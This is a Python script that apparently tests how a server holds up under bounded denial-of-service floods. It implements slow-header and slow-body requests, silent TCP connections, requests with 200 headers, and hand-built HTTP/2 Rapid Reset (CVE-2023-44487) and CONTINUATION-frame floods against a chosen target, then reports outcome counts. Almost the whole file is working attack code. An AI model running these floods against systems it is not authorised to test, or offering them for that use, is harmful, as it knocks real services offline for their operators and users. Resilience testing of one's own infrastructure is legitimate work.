"""flood_http.py KIND SOURCE TARGET DOMAIN COUNT [SECONDS]: bounded floods of TLS and HTTP. Prints one JSON object: how many ended how.

headers, body   COUNT requests whose headers or body come a byte a second, for SECONDS; those with a body have the TOKEN of the environment
silent          COUNT TCP connections that send no ClientHello, for SECONDS
large           COUNT requests with 200 headers, on one connection each
reset           HTTP/2 streams that are reset at once (CVE-2023-44487), on COUNT connections one after the other, each until the machine closes it
continuation    HTTP/2 CONTINUATION frames of a request that never ends, in the same way
"""
import collections
import itertools
import json
import os
import socket
import ssl
import struct
import sys
import time

kind, source, target, domain, count, *rest = sys.argv[1:]
count, seconds = int(count), float(rest[0]) if rest else 0
outcomes = collections.Counter()
# For a machine and a host under load, seconds.
PATIENCE = 30


def tcp():
    s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
    s.settimeout(PATIENCE)
    s.bind((source, 0))
    s.connect((target, 443))
    return s


def tls(protocol):
    own = ssl.create_default_context()
    own.check_hostname, own.verify_mode = False, ssl.CERT_NONE
    own.set_alpn_protocols([protocol])
    return own.wrap_socket(tcp(), server_hostname=domain)


def slow(opening, byte):
    """Holds COUNT connections open, and sends one byte a second on each. Counts what the machine does with them."""
    held = []
    for _ in range(count):
        try:
            s = opening()
            s.setblocking(False)
            held.append(s)
        except ConnectionRefusedError:
            outcomes["refused"] += 1
        except TimeoutError:
            outcomes["silent"] += 1
        except OSError:  # in the handshake
            outcomes["closed"] += 1
    end = time.monotonic() + seconds
    while held and time.monotonic() < end:
        time.sleep(1)
        for s in list(held):
            try:
                if byte:
                    s.send(byte)
                answer = s.recv(4096)
                outcomes[answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"] += 1
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                outcomes["closed"] += 1
            held.remove(s)
            s.close()
    outcomes["open"] += len(held)


def partial(text):
    s = tls("http/1.1")
    s.sendall(text.encode())
    return s


def frame(kind_of_frame, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind_of_frame, flags, stream) + payload


# HPACK (RFC 7541): GET, https and / by their indexes, the authority as a literal.
HEADERS = b"\x82\x87\x84\x41" + bytes([len(domain)]) + domain.encode()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def http2(frames):
    """Sends frames on COUNT connections, on each until the machine closes it. A generator gets the number of each frame of a connection."""
    for _ in range(count):
        try:
            s = tls("h2")
            s.sendall(PREFACE)
            for at in itertools.count(step=50):
                s.settimeout(PATIENCE)
                s.sendall(b"".join(frames(at + more) for more in range(50)))
                outcomes["sent"] += 50
                s.setblocking(False)
                try:
                    while s.recv(65536):
                        pass
                    break
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
            outcomes["closed"] += 1
        except TimeoutError:
            outcomes["silent"] += 1
        except OSError:
            outcomes["closed"] += 1


if kind == "headers":
    slow(lambda: partial(f"GET / HTTP/1.1\r\nHost: {domain}\r\nX-Slow: "), b"a")
elif kind == "body":
    slow(lambda: partial(f"POST /api/tools/list_repos HTTP/1.1\r\nHost: {domain}\r\nAuthorization: Bearer {os.environ['TOKEN']}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"), b"a")
elif kind == "silent":
    slow(tcp, b"")
elif kind == "large":
    headers = "".join(f"X-Header-{at}: {'a' * 100}\r\n" for at in range(200))
    for _ in range(count):
        try:
            with partial(f"GET / HTTP/1.1\r\nHost: {domain}\r\n{headers}\r\n") as s:
                outcomes[s.recv(100).split(b" ")[1].decode()] += 1
        except (OSError, IndexError):
            outcomes["closed"] += 1
elif kind == "reset":
    http2(lambda at: frame(1, 5, 2 * at + 1, HEADERS) + frame(3, 0, 2 * at + 1, struct.pack("!I", 8)))
elif kind == "continuation":
    http2(lambda at: frame(1, 1, 1, HEADERS) if at == 0 else frame(9, 0, 1, b"\x40\x02xa\x32" + b"a" * 50))
print(json.dumps(outcomes))
